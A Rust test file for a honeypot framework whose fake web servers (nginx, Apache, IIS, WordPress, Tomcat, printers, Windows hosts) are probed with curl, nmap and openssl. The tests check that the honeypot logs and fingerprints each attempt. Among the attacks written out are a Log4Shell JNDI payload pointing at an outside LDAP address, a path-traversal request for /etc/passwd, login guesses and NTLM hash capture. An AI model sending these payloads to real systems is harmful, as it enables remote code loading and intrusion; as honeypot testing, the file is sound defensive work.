//! Web servers under attack: curl's conversations event by event, and what nmap reads of every family.
#![allow(clippy::unwrap_used, reason = "what fails here fails the test")]

mod lab_support;

use std::collections::BTreeSet;

use decnet_core::plan::Decky;
use decnet_core::service::Transport;
use decnet_logging::event::{Body, Event, Outcome, Severity};
use lab_support::nmap::Port;
use lab_support::{TestLab, assert_sound, of};

const NMAP: (&str, &str) = ("nmap", "nmap");
const CURL: (&str, &str) = ("curl", "curl");
const OPENSSL: (&str, &str) = ("openssl", "openssl");

/// Runs curl as the attacker; returns what it printed.
fn curl(lab: &TestLab, arguments: &[&str]) -> String {
    let mut all = vec!["--silent", "--show-error", "--max-time", "20"];
    all.extend(arguments);
    let said = lab.attack("curl", &all);
    assert!(said.status.success(), "{said:?}");
    said.out
}

/// The kinds of events, in their order.
fn kinds<'a>(events: &[&'a Event]) -> Vec<&'a str> {
    events.iter().map(|event| event.report.body.kind()).collect()
}

/// Method, target, status and version of the requests, in their order.
fn requests(events: &[&Event]) -> Vec<String> {
    events
        .iter()
        .filter_map(|event| match &event.report.body {
            Body::Request { method, target, status, version, .. } => {
                Some(format!("{method} {target} {status} {}", version.as_deref().unwrap_or("-")))
            }
            _ => None,
        })
        .collect()
}

/// User, password and outcome of the logins, in their order.
fn logins(events: &[&Event]) -> Vec<(String, String, Outcome)> {
    events
        .iter()
        .filter_map(|event| match &event.report.body {
            Body::AuthAttempt { credential, outcome } => {
                Some((credential.username.clone(), credential.password.clone().unwrap_or_default(), *outcome))
            }
            _ => None,
        })
        .collect()
}

#[test]
fn curl_holds_conversations_and_each_step_is_an_event() {
    let Some(lab) = TestLab::build(&[CURL]) else { return };
    let plan = lab
        .deploy_config(
            "
[general]
net = 198.51.100.0/24
interface = eth0
engine = native
seed = 5
[web]
services = http
distro = debian
[web.http]
server_header = nginx/1.22.1
",
        )
        .plan;
    let web = &plan.deckies[0];
    let plain = format!("http://{}", web.address);
    let tls = format!("https://{}", web.address);

    let head = curl(&lab, &["--http1.0", "-I", &format!("{plain}/")]);
    assert!(head.starts_with("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\n"), "{head}");
    let page = curl(&lab, &[&format!("{plain}/")]);
    assert!(page.contains("<title>Welcome to nginx!</title>"), "{page}");
    let missing = curl(&lab, &["-i", &format!("{plain}/.env")]);
    assert!(
        missing.starts_with("HTTP/1.1 404 Not Found\r\n") && missing.contains("nginx/1.22.1"),
        "{missing}"
    );
    // One connection for several requests.
    let three = curl(&lab, &[&format!("{plain}/a"), &format!("{plain}/b"), &format!("{plain}/")]);
    assert_eq!(three.matches("404 Not Found").count() / 2, 2, "{three}");
    let refused = lab.attack("curl", &["--silent", "--max-time", "20", &format!("{tls}/")]);
    assert_eq!(refused.status.code(), Some(60), "the certificate is nobody's that curl knows: {refused:?}");
    let secret = curl(&lab, &["-k", "-i", &format!("{tls}/")]);
    assert!(secret.contains("Welcome to nginx!"), "{secret}");
    let posted =
        curl(&lab, &["-k", "-o", "/dev/null", "-w", "%{http_code}", "-d", "a=1", &format!("{tls}/login")]);
    assert_eq!(posted, "404");

    let events = lab.finish();
    assert_sound(&events, lab.attacker());
    let web_events = of(&events, web, "http");
    let kept: Vec<_> = kinds(&web_events).into_iter().filter(|kind| *kind != "client.fingerprint").collect();
    let one = ["connection.opened", "request", "connection.closed"];
    let mut wanted = [one, one, one].concat();
    wanted.extend(["connection.opened", "request", "request", "request", "connection.closed"]);
    wanted.extend(["connection.opened", "tls.hello", "connection.closed"]);
    for _ in 0..2 {
        wanted.extend(["connection.opened", "tls.hello", "request", "connection.closed"]);
    }
    assert_eq!(kept, wanted);
    assert_eq!(
        requests(&web_events),
        [
            "HEAD / 200 HTTP/1.0",
            "GET / 200 HTTP/1.1",
            "GET /.env 404 HTTP/1.1",
            "GET /a 404 HTTP/1.1",
            "GET /b 404 HTTP/1.1",
            "GET / 200 HTTP/1.1",
            "GET / 200 HTTP/1.1",
            "POST /login 404 HTTP/1.1",
        ]
    );
    let mut sessions: Vec<_> = web_events.iter().map(|event| event.report.session).collect();
    sessions.dedup();
    assert_eq!(sessions.len(), 7, "one session for each connection");
    for event in &web_events {
        assert_eq!(event.report.dst_ip, web.address);
        assert_eq!(event.speaker.hostname, web.identity.names.hostname);
        assert!(event.report.src_port > 0);
        let tls = event.report.dst_port == 443;
        assert!(tls || event.report.dst_port == 80);
        if matches!(event.report.body, Body::Request { .. }) {
            assert_eq!(event.report.tls, tls, "{event:?}");
            assert_eq!(event.severity, Severity::Notice);
        }
        if let Body::TlsHello { ja4, .. } = &event.report.body {
            assert!(!ja4.is_empty());
        }
    }
}

#[test]
fn logins_and_exploits_are_told_for_what_they_are() {
    let Some(lab) = TestLab::build(&[CURL]) else { return };
    let plan = lab
        .deploy_config(
            "
[general]
net = 198.51.100.0/24
interface = eth0
engine = native
seed = 6
[blog]
services = http
[blog.http]
fake_app = wordpress
[java]
services = http
[java.http]
fake_app = tomcat
",
        )
        .plan;
    let (blog, java) = (plan.decky("blog").unwrap(), plan.decky("java").unwrap());
    let login = format!("http://{}/wp-login.php", blog.address);
    let form = curl(&lab, &[&login]);
    assert!(form.contains("name=\"log\"") && form.contains("name=\"pwd\""), "{form}");
    let cookie = "wordpress_test_cookie=WP%20Cookie%20check";
    let answer = curl(
        &lab,
        &["-b", cookie, "--data-urlencode", "log=admin", "--data-urlencode", "pwd=päss wörd", &login],
    );
    assert!(answer.contains("admin") && answer.contains("login_error"), "{answer}");
    let manager = format!("http://{}/manager/html", java.address);
    let unasked = curl(&lab, &["-o", "/dev/null", "-w", "%{http_code}", &manager]);
    assert_eq!(unasked, "401");
    let refused = curl(&lab, &["-o", "/dev/null", "-w", "%{http_code}", "-u", "tomcat:s3cret", &manager]);
    assert_eq!(refused, "401");
    curl(
        &lab,
        &["-A", "${jndi:ldap://203.0.113.9/a}", "-o", "/dev/null", &format!("http://{}/", java.address)],
    );

    // A way out of the site's root, which the server does not even take for a request.
    curl(&lab, &["--path-as-is", "-o", "/dev/null", &format!("http://{}/../../etc/passwd", java.address)]);
    let plain =
        curl(&lab, &["-o", "/dev/null", "-w", "%{http_code}", &format!("http://{}:443/", blog.address)]);
    assert_eq!(plain, "400");

    let events = lab.finish();
    assert_sound(&events, lab.attacker());
    let failed = |user: &str, password: &str| (user.to_owned(), password.to_owned(), Outcome::Failed);
    assert_eq!(logins(&of(&events, blog, "http")), [failed("admin", "päss wörd")]);
    assert_eq!(logins(&of(&events, java, "http")), [failed("tomcat", "s3cret")]);
    let mut exploits = Vec::new();
    for event in &events {
        match &event.report.body {
            Body::AuthAttempt { .. } => assert_eq!(event.severity, Severity::Warning),
            Body::ExploitAttempt { name, .. } => {
                assert_eq!(event.severity, Severity::Critical);
                assert_eq!(event.speaker.decky, "java");
                exploits.push(name.as_str());
            }
            Body::ScanProbe { kind } if event.report.dst_port == 443 => assert_eq!(kind, "wrong_protocol"),
            _ => {}
        }
    }
    assert_eq!(exploits, ["CVE-2021-44228", "path-traversal"]);
    assert!(
        of(&events, blog, "http").iter().any(|event| matches!(event.report.body, Body::ScanProbe { .. }))
    );
}

/// One decky of every family of servers, each with what `-sV` must call it: the product and, where it has
/// one, the beginning of its version.
const FAMILIES: &[(&str, &str, &str)] = &[
    (
        "unit-nginx",
        "distro = debian\nservices = http\n[unit-nginx.http]\nserver_header = nginx/1.22.1",
        "nginx",
    ),
    (
        "unit-ubuntu-nginx",
        "distro = ubuntu22\nservices = http\n[unit-ubuntu-nginx.http]\nserver_header = nginx/1.18.0 (Ubuntu)",
        "nginx",
    ),
    (
        "unit-apache",
        "distro = debian\nservices = http\n[unit-apache.http]\nserver_header = Apache/2.4.62 (Debian)",
        "Apache httpd",
    ),
    (
        "unit-rocky-apache",
        "distro = rocky9\nservices = http\n[unit-rocky-apache.http]\nserver_header = Apache/2.4.62 (Rocky Linux) OpenSSL/3.0.7",
        "Apache httpd",
    ),
    ("unit-iis", "archetype = windows-server\nservices = http", "Microsoft IIS httpd 10.0"),
    ("unit-printer-hp", "nmap_os = hp-laserjet-m525\nservices = http", "HP LaserJet"),
    ("unit-printer-brother", "nmap_os = brother\nservices = http", "Debut embedded httpd 1."),
    ("unit-gateway", "archetype = iot-device\nservices = http", "LuCI Lua http config"),
    (
        "unit-controller",
        "services = http\nnmap_os = embedded\n[unit-controller.http]\nserver_header = Schneider-WEB/V2.1.4",
        "Schneider-WEB",
    ),
    ("unit-switch", "nmap_os = cisco\nservices = http", "Cisco IOS http config"),
];

#[test]
fn nmap_names_every_family_and_nothing_contradicts() {
    let Some(lab) = TestLab::build(&[NMAP]) else { return };
    let sections: String = FAMILIES.iter().map(|(name, lines, _)| format!("[{name}]\n{lines}\n")).collect();
    let head = "[general]\nnet = 198.51.100.0/24\ninterface = eth0\nengine = native\nseed = 12\n";
    let plan = lab.deploy_config(&format!("{head}{sections}")).plan;
    let targets: Vec<String> = plan.deckies.iter().map(|decky| decky.address.to_string()).collect();
    let mut arguments = vec![
        "-sV",
        "--version-all",
        "-T4",
        "-p",
        "80,443",
        "--script",
        "default,http-server-header,http-headers,ssl-cert",
    ];
    arguments.extend(targets.iter().map(String::as_str));
    let hosts = lab.nmap(280, &arguments);
    assert_eq!(hosts.len(), FAMILIES.len());
    let mut subjects = BTreeSet::new();
    for host in &hosts {
        let decky = plan.deckies.iter().find(|decky| decky.address == host.address).unwrap();
        let (_, _, product) = FAMILIES.iter().find(|(name, ..)| *name == decky.name).unwrap();
        for port in host.ports.iter().filter(|port| port.state == "open") {
            let about = format!("{} {port:#?}", decky.name);
            assert_eq!(port.unrecognized, None, "{about}");
            assert!(port.service.contains("http"), "{about}");
            let told = format!(
                "{} {}",
                port.product.as_deref().unwrap_or_default(),
                port.version.as_deref().unwrap_or_default()
            );
            assert!(told.contains(product), "{product}: {about}");
            agree_with_identity(decky, port, &about);
            if port.number == 443 {
                assert_eq!(port.tunnel.as_deref(), Some("ssl"), "{about}");
                agree_with_certificate(decky, port, &about);
                assert!(
                    subjects.insert(port.script("ssl-cert").to_owned()),
                    "two of one certificate: {about}"
                );
            }
        }
        assert_eq!(host.open(), [(Transport::Tcp, 80), (Transport::Tcp, 443)], "{}", decky.name);
    }
    let events = lab.finish();
    assert_sound(&events, lab.attacker());
    for decky in &plan.deckies {
        let told = of(&events, decky, "http");
        assert!(!requests(&told).is_empty(), "{}", decky.name);
        assert_eq!(
            told.iter().filter(|event| event.report.body.kind() == "connection.opened").count(),
            told.iter().filter(|event| event.report.body.kind() == "connection.closed").count(),
            "every connection ends: {}",
            decky.name
        );
    }
}

/// Version and header are those of the identity, where neither the persona nor the product hides them.
fn agree_with_identity(decky: &Decky, port: &Port, about: &str) {
    let identity = &decky.identity.products["http"];
    let set = decky.service("http").unwrap().persona.get("server_header").cloned();
    if let Some(header) = set {
        assert_eq!(port.script("http-server-header"), header, "{about}");
        let version = header.split(['/', ' ']).nth(1).unwrap().trim_start_matches('V');
        assert_eq!(port.version.as_deref(), Some(version), "{about}");
    } else if let Some(version) = &port.version {
        assert_eq!(*version, identity.version, "{about}");
    }
    for text in port.scripts.values() {
        assert!(!text.to_lowercase().contains("decnet") && !text.contains(&decky.name), "{about}");
    }
}

/// The certificate is of this host, and not from before its system nor of today.
fn agree_with_certificate(decky: &Decky, port: &Port, about: &str) {
    let told = port.script("ssl-cert");
    let names = &decky.identity.names;
    let subject = told.lines().next().unwrap().to_lowercase();
    let fits = [&names.hostname, &names.fqdn].iter().any(|name| subject.contains(&name.to_lowercase()))
        || subject.contains("ios-self-signed-certificate");
    assert!(fits, "{about}");
    let since = told.split("Not valid before: ").nth(1).unwrap().get(..10).unwrap();
    let day = |seconds: i64| time::OffsetDateTime::from_unix_timestamp(seconds).unwrap().date().to_string();
    assert!(*since >= *day(decky.identity.times.installed - 86_400), "before its installation: {about}");
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    assert!(*since < *day(now as i64), "of today: {about}");
}

#[test]
fn two_deckies_share_no_key_no_serial_and_no_session() {
    let Some(lab) = TestLab::build(&[OPENSSL, CURL]) else { return };
    let plan = lab.deploy(&["-n", "8", "--services", "http", "--distro", "debian"]).plan;
    let mut seen: BTreeSet<String> = BTreeSet::new();
    let mut take = |what: &str, value: &str, decky: &Decky| {
        assert!(value.len() > 8, "{what} of {}: {value:?}", decky.name);
        assert!(seen.insert(format!("{what} {value}")), "{what} of {} is another's too: {value}", decky.name);
    };
    for decky in &plan.deckies {
        let script = format!(
            "openssl s_client -connect {}:443 -tls1_2 </dev/null 2>/dev/null | tee /dev/stderr | \
             openssl x509 -noout -serial -pubkey -fingerprint -sha256",
            decky.address
        );
        let said = lab.attack("sh", &["-c", &script]);
        assert!(said.status.success(), "{said:?}");
        let line = |text: &str, mark: &str| {
            text.lines().find_map(|line| line.trim().strip_prefix(mark)).unwrap_or_default().to_owned()
        };
        take("serial", &line(&said.out, "serial="), decky);
        take("fingerprint", &line(&said.out, "sha256 Fingerprint="), decky);
        let key = said.out.split("-----").nth(2).unwrap_or_default();
        take("key", key, decky);
        take("session", &line(&said.err, "Session-ID:"), decky);
        take("master key", &line(&said.err, "Master-Key:"), decky);
    }
    assert_sound(&lab.finish(), lab.attacker());
}

#[test]
fn nmap_reads_names_and_build_out_of_ntlm_and_they_are_the_identity_s() {
    let Some(lab) = TestLab::build(&[NMAP, CURL]) else { return };
    let head = "[general]\nnet = 198.51.100.0/24\ninterface = eth0\nengine = native\nseed = 21\n";
    let sections = "[mail]\nnmap_os = windows-server-2019\nhostname = mx1.corp.example\nservices = http\n\
                    [mail.http]\nfake_app = owa\n\
                    [intranet]\narchetype = windows-server\nservices = http\n[intranet.http]\nwindows_auth = yes\n\
                    [desk]\narchetype = windows-workstation\nservices = http\n[desk.http]\nwindows_auth = yes\n";
    let plan = lab.deploy_config(&format!("{head}{sections}")).plan;
    for decky in &plan.deckies {
        let root = if decky.name == "mail" { "/ews/" } else { "/" };
        let argument = format!("http-ntlm-info.root={root}");
        let address = decky.address.to_string();
        let hosts = lab
            .nmap(120, &["-p", "80,443", "--script", "http-ntlm-info", "--script-args", &argument, &address]);
        let identity = &decky.identity;
        let (names, joined) = (&identity.names, identity.names.joined);
        let dns =
            if joined { format!("{}.{}", names.hostname, names.domain) } else { names.hostname.clone() };
        let domain = if joined { &names.netbios_domain } else { &names.netbios };
        let mut wanted = vec![
            format!("Target_Name: {domain}"),
            format!("NetBIOS_Domain_Name: {domain}"),
            format!("NetBIOS_Computer_Name: {}", names.netbios),
            format!("DNS_Domain_Name: {}", if joined { &names.domain } else { &dns }),
            format!("DNS_Computer_Name: {dns}"),
        ];
        if joined {
            wanted.push(format!("DNS_Tree_Name: {}", names.domain));
        }
        wanted.push(format!("Product_Version: {}", identity.os.version));
        for number in [80, 443] {
            let port = hosts[0].port(Transport::Tcp, number);
            let told: Vec<&str> = port
                .script("http-ntlm-info")
                .lines()
                .map(str::trim)
                .filter(|line| !line.is_empty())
                .collect();
            assert_eq!(told, wanted, "{} {number}", decky.name);
        }
    }
    assert!(plan.deckies.iter().any(|decky| decky.identity.names.joined));
    let desk = plan.deckies.iter().find(|decky| decky.name == "desk").unwrap();
    let code = curl(
        &lab,
        &[
            "--ntlm",
            "-u",
            "it:Winter2026",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            &format!("http://{}/", desk.address),
        ],
    );
    assert_eq!(code, "401");
    let events = lab.finish();
    assert_sound(&events, lab.attacker());
    let hashes: Vec<_> = of(&events, desk, "http")
        .iter()
        .filter_map(|event| match &event.report.body {
            Body::AuthAttempt { credential, outcome } => {
                assert_eq!((event.severity, *outcome), (Severity::Warning, Outcome::Failed));
                Some((credential.hash_format.clone().unwrap(), credential.hash.clone().unwrap()))
            }
            _ => None,
        })
        .collect();
    let [(format, line)] = &hashes[..] else { panic!("{hashes:?}") };
    assert!(format == "hashcat-5600" && line.starts_with("it::"), "{format} {line}");
}
